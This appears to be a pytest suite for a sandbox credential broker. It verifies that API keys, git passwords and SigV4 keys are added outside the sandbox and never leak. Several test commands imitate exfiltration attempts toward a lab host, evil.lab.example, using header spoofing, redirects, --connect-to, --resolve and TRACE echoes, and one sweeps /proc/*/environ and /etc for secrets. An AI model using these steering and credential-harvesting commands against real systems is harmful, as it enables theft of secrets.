# SPDX-License-Identifier: Apache-2.0
"""NET-14, NET-14b: credentials that programs in a sandbox use and do not have

curl and git of the build root, in a sandbox, and hosts in a lab (tests/lib/apihost.py).  What is expected comes from the log of the
hosts: they got the secret.  All that a sandbox can read is searched for it, outside.
"""
import base64
import json
import os
import pathlib
import re
import subprocess
import sys

import apihost
import cay
import lab
import pytest
import tlshost
from cay import ApiError, wait_for
from conftest import BUILD
from test_egress import decisions
from test_tenants import asks

API, EVIL = "93.184.2.1", "93.184.2.2"
SECRET = "sk-live-4f9Zq7x0123456789abcdef"
PROGRAMS = ["/bin/bash", "/bin/cat", "/bin/ls", "/usr/bin/env", "/usr/bin/curl", "/usr/bin/git", "/usr/lib/git-core/git-remote-https"]
BUNDLE = "etc/ssl/certs/ca-certificates.crt"


def image(ca):
    """bash, curl and git with their libraries; the CA of the lab's hosts is trusted."""
    files = list(PROGRAMS)
    for program in PROGRAMS:
        files += re.findall(r"(/\S+) \(0x", subprocess.run(["ldd", program], capture_output=True, text=True, check=True).stdout)
    nss = [str(p) for p in pathlib.Path("/usr/lib").glob("*-linux-gnu/libnss_dns.so.2")] + [str(p) for p in pathlib.Path("/usr/lib").glob("*-linux-gnu/libresolv.so.2")]
    files = list(dict.fromkeys(files + nss))
    core = "/usr/lib/git-core/"
    folders = sorted({str(d) for f in files for d in pathlib.PurePath(f).parents if str(d) != "/"} | {"/etc/ssl/certs"}, key=len)
    folders = list(dict.fromkeys(str(d) for f in folders for d in [*reversed(pathlib.PurePath(f).parents), f] if str(d) != "/"))
    links = [cay.entry(core[1:] + n, cay.tarfile.SYMTYPE, link="/usr/bin/git") for n in ("git", "git-receive-pack", "git-upload-pack")]
    return cay.layout(
        [*[cay.directory(d[1:]) for d in folders], *[cay.file(f[1:], pathlib.Path(f).resolve().read_bytes(), 0o755) for f in files], *links,
         cay.entry("bin/sh", cay.tarfile.SYMTYPE, link="bash"), cay.file(BUNDLE, pathlib.Path(ca).read_bytes()),
         cay.file("etc/passwd", b"root:x:0:0::/root:/bin/bash\nuser:x:1000:1000::/workspace:/bin/bash\n"), cay.file("etc/group", b"root:x:0:\nuser:x:1000:\n"),
         cay.file("etc/nsswitch.conf", b"hosts: files dns\n"), cay.directory("tmp", 0o1777), cay.directory("root"), cay.directory("workspace", uid=1000, gid=1000)],
        {"User": "user", "WorkingDir": "/workspace", "Env": ["PATH=/usr/bin:/bin", "HOME=/workspace", "GIT_TERMINAL_PROMPT=0"]})


@pytest.fixture(scope="module")
def net():
    zone = {"api.lab.example": [API], "evil.lab.example": [EVIL]}
    with lab.Lab([(API, 8443), (EVIL, 8443)], zone) as internet:  # port 443 is apihost's
        yield internet


@pytest.fixture(scope="module")
def authority(tmp_path_factory):
    top = tmp_path_factory.mktemp("ca")
    for parent in [top, *top.parents][:3]:
        os.chmod(parent, 0o755)
    return tlshost.Authority(top)


class Hosts:
    def __init__(self, net, authority, top):
        self.log = top / "log"
        self.log.touch()
        self.repository = top / "lab.git"
        subprocess.run(["git", "init", "-q", "--bare", "-b", "main", self.repository], check=True)
        subprocess.run(["git", "-C", self.repository, "config", "http.receivepack", "true"], check=True)
        certs = [(API, *authority.issue("api", "api.lab.example")), (EVIL, *authority.issue("evil", "evil.lab.example"))]
        self.process = subprocess.Popen(["nsenter", "-t", str(net.child.pid), "-n", sys.executable, apihost.__file__, str(self.log), str(top),
                                         *[word for row in certs for word in row]], stdout=subprocess.PIPE, text=True)
        assert self.process.stdout.readline() == "up\n"

    def asked(self):
        """(address, path, headers) of the requests since the last call."""
        rows = [json.loads(line) for line in self.log.read_text().splitlines()]
        self.log.write_text("")
        return [(r["at"], r["path"], [tuple(h) for h in r["headers"]]) for r in rows]

    def stop(self):
        self.process.kill()
        self.process.wait()


@pytest.fixture(scope="module")
def hosts(net, authority, tmp_path_factory):
    h = Hosts(net, authority, tmp_path_factory.mktemp("hosts"))
    yield h
    h.stop()


@pytest.fixture(scope="module")
def node(net, hosts, authority):
    with cay.Cay(BUILD, env={"CAY_EGRESS_DNS": lab.DNS, "CAY_EGRESS_CA": authority.ca}) as c:
        c.image_import("curl", image(authority.ca))
        for name in ("cay-egress", "cay-broker"):
            wait_for(f"{name} to be connected", lambda name=name: f"{name} is connected" in c.log("cayd"), 30)
        c.call("PUT", "/v1/credentials/api", {"value": SECRET, "hosts": ["api.lab.example"], "env": "API_KEY"})
        c.call("PUT", "/v1/credentials/git", {"kind": "basic", "value": apihost.PASSWORD, "hosts": ["api.lab.example"]})
        yield c


@pytest.fixture
def box(node, hosts):
    made = []

    def make(credential="api", **fields):
        rules = [{"action": "allow", "to": "api.lab.example", "credential": credential}, {"action": "allow", "to": "evil.lab.example"}]
        made.append(node.create("curl", egress={"rules": rules}, **fields))
        hosts.asked()
        return made[-1]
    yield make
    for one in made:
        node.delete(one)


def run(node, box, command):
    done = node.exec(box, ["bash", "-c", command], timeout_s=60)
    return done.exit_code, done.text, done.stderr.decode()


def authorizations(asked, at):
    return [v for address, _, headers in asked if address == at for k, v in headers if k.lower() == "authorization"]


def forms(secret):
    return [secret, base64.b64encode(secret.encode()).decode()[:-4], secret[::-1]]


def test_NET_14_a_key_that_only_the_host_sees(node, hosts, box):
    one = box()
    code, said, error = run(node, one, 'curl -sSi -H "Authorization: Bearer $API_KEY" "https://api.lab.example/echo?a=b"')
    assert code == 0, error
    assert authorizations(hosts.asked(), API) == [f"Bearer {SECRET}"]
    assert "X-Echo: Bearer " + "*" * len(SECRET) in said.replace("\r", "") and not any(f in said + error for f in forms(SECRET))
    placeholder = next(c["placeholder"] for c in node.call("GET", "/v1/credentials")["credentials"] if c["name"] == "api")
    assert run(node, one, "echo $API_KEY")[1].strip() == placeholder


def test_NET_14_two_credentials_on_one_connection(node, hosts):
    """By the path of each request; the connection to the host is another one for each."""
    one = node.create("curl", egress={"rules": [{"action": "allow", "to": "api.lab.example", "credential": name, "paths": [path]}
                                                for name, path in (("api", "/echo/a"), ("git", "/echo/b"))]})
    hosts.asked()
    code, said, error = run(node, one, "curl -sS -w '[%{num_connects}]' https://api.lab.example/echo/{a,b,b,a}")
    assert code == 0 and re.findall(r"\[(\d)\]", said) == ["1", "0", "0", "0"], (said, error)
    basic = "Basic " + base64.b64encode(apihost.PASSWORD.encode()).decode()
    assert authorizations(hosts.asked(), API) == [f"Bearer {SECRET}", basic, basic, f"Bearer {SECRET}"]
    assert not any(f in said for f in forms(SECRET) + forms(apihost.PASSWORD) + [basic])
    node.delete(one)


def test_each_connection_to_the_host_counts(node, hosts):
    """Where two credentials take turns, one connection of a program is many to the host: these may begin as often as others."""
    one = node.create("curl", egress={"rules": [{"action": "allow", "to": "api.lab.example", "credential": name, "paths": [path]}
                                                for name, path in (("api", "/echo/a"), ("git", "/echo/b"))], "limits": {"new_per_s": 1}})
    hosts.asked()
    code, _, _ = run(node, one, "curl -sS https://api.lab.example/echo/{a,b}{,?2,?3,?4,?5,?6}" + " https://api.lab.example/echo/{a,b}" * 6)
    assert code != 0 and 2 <= len(hosts.asked()) < 20
    wait_for("a record", lambda: [d for d in decisions(node) if d.get("target") == one and d["outcome"] == "too_many"], 30)
    node.delete(one)


KEY_ID, KEY = "AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
SIGNS = "--aws-sigv4 aws:amz:eu-west-1:s3"


def signed_by_curl(date, words):
    """The Authorization that curl makes with the real keys, at that time."""
    heads = []

    def serve(s):
        heads.append(tlshost.read_head(s).decode())
        s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
    with tlshost.Host(serve) as host:
        subprocess.run(["curl", "-sS", *SIGNS.split(), "--user", f"{KEY_ID}:{KEY}", "-H", f"X-Amz-Date: {date}", "--connect-to",
                        f"api.lab.example:80:127.0.0.1:{host.port}", *[w.replace("https:", "http:") for w in words]], check=True, timeout=60)
    return re.search(r"(?m)^Authorization: (.*)\r$", heads[0])[1]


def test_NET_14_a_request_is_signed_outside(node, hosts):
    """The program signs with a placeholder; the host gets what curl would have signed with the keys."""
    put = {"kind": "sigv4", "value": f"{KEY_ID}:{KEY}", "hosts": ["api.lab.example"], "scope": "eu-west-1/s3", "env": "AWS_SECRET_ACCESS_KEY"}
    info = node.call("PUT", "/v1/credentials/aws", put)
    assert info["scope"] == "eu-west-1/s3" and info["hint"] == KEY[-4:] and "header" not in info and KEY not in json.dumps(info)
    one = node.create("curl", egress={"rules": [{"action": "allow", "to": "api.lab.example", "credential": "aws"}]})
    for words in (["https://api.lab.example/echo/a%20b/~c?prefix=a%2Fb&list-type=2"],
                  ["https://api.lab.example/echo", "-H", "Content-Type: text/plain", "-H", "X-Amz-Acl: private", "--data-binary", "body"]):
        hosts.asked()
        code, said, error = run(node, one, f'curl -sS {SIGNS} --user "any:$AWS_SECRET_ACCESS_KEY" ' + " ".join(f"'{w}'" for w in words))
        assert code == 0 and KEY not in said, error
        (_, _, headers), = hosts.asked()
        got = {k.lower(): v for k, v in headers}
        assert len(got) == len(headers) and got["authorization"] == signed_by_curl(got["x-amz-date"], words), headers
    for more in ("-d body", "-d body -H 'X-Amz-Content-Sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD'", "-G -d X-Amz-Signature=1"):
        code, said, error = run(node, one, f"curl -sSi {more} https://api.lab.example/echo")
        assert " 502 " in said and "Cay-Reason: request" in said, (said, error)
    assert hosts.asked() == []
    node.delete(one)
    for wrong in ({"scope": None}, {"scope": "eu-west-1"}, {"scope": "eu-west-1/s3/x"}, {"value": "no-colon-in-it"}, {"header": "X-Key"}, {"kind": "bearer"}):
        with pytest.raises(ApiError) as e:
            node.call("PUT", "/v1/credentials/wrong", {k: v for k, v in {**put, **wrong}.items() if v})
        assert json.loads(e.value.body)["error"]["code"] == "invalid_argument", wrong


def test_NET_14_it_is_nowhere_inside(node, hosts, box):
    one = box()
    code, said, error = run(node, one, 'curl -sS https://api.lab.example/echo > /tmp/reply; env; set; cat /tmp/* /workspace/* /etc/* /etc/ssl/certs/* /proc/*/environ '
                                       "/proc/*/cmdline /proc/mounts /run/* 2>/dev/null; true")
    assert code == 0 and "API_KEY=cay_cred_" in said
    assert authorizations(hosts.asked(), API) == [f"Bearer {SECRET}"]
    assert not any(f in said + error for f in forms(SECRET))
    for text in (json.dumps(node.get(one)), json.dumps(node.call("GET", f"/v1/sandboxes/{one}/egress")), json.dumps(node.call("GET", "/v1/events")),
                 *(node.log(name) for name in node.logs)):
        assert SECRET not in text
    found = subprocess.run(["grep", "-rlaF", SECRET, str(node.state), str(node.run)], capture_output=True, text=True).stdout
    assert found == ""


def test_NET_14_a_redirect_leads_without_it(node, hosts, box):
    code, _, error = run(node, box(), "curl -sSL --location-trusted https://api.lab.example/redirect")
    asked = hosts.asked()
    assert code == 0, error
    assert [(at, path) for at, path, _ in asked] == [(API, "/redirect"), (EVIL, "/echo?of=/redirect")]
    assert authorizations(asked, EVIL) == [] and SECRET not in json.dumps(asked[1:])


# what is sent, whether the host gets it, and what the program gets
ECHOES = {
    "trace": ("-X TRACE https://api.lab.example/echo", False, "Cay-Reason: request"),
    "track": ("-X TRACK https://api.lab.example/echo", False, ""),
    "trace-in-small": ("-X Trace https://api.lab.example/echo", False, ""),
    "trace-by-a-header": ("-X POST -H X-HTTP-Method-Override:TRACE https://api.lab.example/error", True, "****"),
    "error-page": ("https://api.lab.example/error", True, "****"),
    "upgrade": ("-H 'Connection: Upgrade, HTTP2-Settings' -H 'Upgrade: h2c' -H 'HTTP2-Settings: AAMAAABk' https://api.lab.example/echo", None, ""),
    "http2": ("--http2-prior-knowledge https://api.lab.example/echo", None, ""),
    "http2-authority": ("--http2-prior-knowledge -H 'Host: evil.lab.example' https://api.lab.example/echo", False, ""),
    "redirect-tells-the-target": ("-L --location-trusted -e ';auto' https://api.lab.example/redirect", True, ""),
    "redirect-to-http": ("-L --location-trusted https://api.lab.example/plain", True, ""),
    "connect": ("-p -x http://api.lab.example:443 https://evil.lab.example/echo", False, ""),
}


@pytest.mark.parametrize("kind", ["bearer", "query"])
@pytest.mark.parametrize("way", ECHOES)
def test_EGR_02_it_does_not_come_back(node, net, hosts, box, kind, way):
    """A host that sends back what it gets, by each way that there is: the secret is in nothing that the program gets, in no request to
    another host, in no record, and in no packet."""
    if kind == "query":
        node.call("PUT", "/v1/credentials/query", {"kind": "query", "header": "api_key", "value": SECRET, "hosts": ["api.lab.example"]})
    words, arrives, expected = ECHOES[way]
    one = box("api" if kind == "bearer" else "query")
    net.frames()
    _, said, error = run(node, one, "curl -sSi --max-time 10 " + words)
    asked = hosts.asked()
    assert not any(f in said + error for f in forms(SECRET)), said
    if arrives is not None:
        assert any(SECRET in json.dumps(r) for r in asked if r[0] == API) == arrives, (asked, said, error)
    assert SECRET not in json.dumps([r for r in asked if r[0] != API]) and expected in said
    assert not any("h2c" in str(r) for r in asked)
    assert SECRET not in json.dumps([d for d in decisions(node) if d.get("target") == one])
    frames, lost = net.frames()
    assert not lost and not [f for f in frames if SECRET.encode() in f[3]] and {f[2] for f in frames if f[0] == 6} <= {443}


@pytest.mark.parametrize("command", [
    'curl -sS -H "Host: evil.lab.example" https://api.lab.example/echo', "curl -sS --connect-to api.lab.example:443:evil.lab.example:443 https://api.lab.example/echo",
    'curl -sSk --resolve api.lab.example:443:93.184.2.2 https://api.lab.example/echo', "curl -sS --request-target https:" + "//evil.lab.example/echo https://api.lab.example/",
    'curl -sS -H "Authorization: Bearer $API_KEY" https://evil.lab.example/echo', "curl -sS http://api.lab.example/echo"],
    ids=["host", "connect-to", "resolve", "absolute", "placeholder-elsewhere", "plain"])
def test_NET_14b_it_is_not_steered_elsewhere(node, hosts, box, command):
    _, said, _ = run(node, box(), command)
    asked = hosts.asked()
    assert SECRET not in json.dumps(asked) and SECRET not in said
    assert not any(SECRET in v for v in authorizations(asked, EVIL))


def test_NET_14b_another_tenant_cannot_name_it(node):
    other = node.call("POST", "/v1/tenants", {"name": "others"})["id"]
    rule = {"action": "allow", "to": "api.lab.example", "credential": "api"}
    with pytest.raises(ApiError) as e:
        asks(node, "write", other).create("curl", egress={"rules": [rule]})
    assert e.value.code == "invalid_argument" and "there is no credential" in str(e.value)
    for wrong in ({**rule, "to": "evil.lab.example"}, {**rule, "to": "*.lab.example"}, {**rule, "credential": "none"}):
        with pytest.raises(ApiError) as e:
            node.create("curl", egress={"rules": [wrong]})
        assert e.value.code == "invalid_argument" and json.loads(e.value.body)["error"]["field"] == "egress.rules[0].credential"


def test_a_tenant_changes_a_few_a_second(node):
    """Each change syncs a file of all tenants."""
    other = asks(node, "write", node.call("POST", "/v1/tenants", {"name": "hasty"})["id"])
    refused = 0
    for _ in range(200):
        try:
            other.call("PUT", "/v1/credentials/one", {"value": SECRET, "hosts": ["api.lab.example"]})
        except ApiError as e:
            assert e.status == 429 and "credentials a second" in str(e)
            refused += 1
    assert refused > 0
    node.call("PUT", "/v1/credentials/two", {"value": SECRET, "hosts": ["api.lab.example"]})


def test_git_clones_and_pushes(node, hosts, box):
    one = box("git")
    code, said, error = run(node, one, "cd /tmp && git clone -q https://api.lab.example/git/lab.git w && cd w && git -c user.name=a -c user.email=a@lab.example "
                                       "commit -q --allow-empty -m from-inside && git push -q origin HEAD:main && git ls-remote origin")
    assert code == 0 and "refs/heads/main" in said, error
    log = subprocess.run(["git", "-C", hosts.repository, "log", "-1", "--format=%s", "main"], capture_output=True, text=True).stdout
    assert log == "from-inside\n"
    assert set(authorizations(hosts.asked(), API)) == {"Basic " + base64.b64encode(apihost.PASSWORD.encode()).decode()}
    assert not any(f in said + error for f in forms(apihost.PASSWORD)) and apihost.PASSWORD.split(":")[1] not in run(node, one, "cat /tmp/w/.git/config; env")[1]
